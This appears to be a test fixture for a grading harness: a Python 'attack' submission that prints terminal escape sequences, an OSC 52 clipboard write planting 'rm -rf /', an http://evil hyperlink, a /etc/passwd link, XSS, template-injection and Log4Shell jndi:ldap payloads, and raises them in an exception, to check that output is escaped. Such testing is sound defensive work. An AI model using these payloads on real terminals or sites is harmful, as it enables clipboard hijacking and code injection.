# /// attack
# row = 8
# expect = ["FAILED"]
# proof = "escapes"
# invariant = "nothing that a submission says reaches a terminal unescaped"
# ///
"""Escape sequences (title, clear, OSC 52 clipboard, bells, C1, hyperlinks), HTML and rich markup in output and exception."""

EVIL = (
    "\x1b]0;owned\x07\x1b[2J\x1b[1;1H\x1b]52;c;cm0gLXJmIC8=\x07\x9b31m\x9d0;x\x9c\x90\x08\x08\r"
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\\u202e\u2066[bold green]13 / 13[/] [link=file:///etc/passwd]x[/link]"
    "<script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}${jndi:ldap://x}"
)
print("escapes", EVIL)


class Evil(Exception):
    pass


Evil.__name__ = Evil.__qualname__ = EVIL


def lstm_cell(*arguments):
    raise Evil(EVIL)
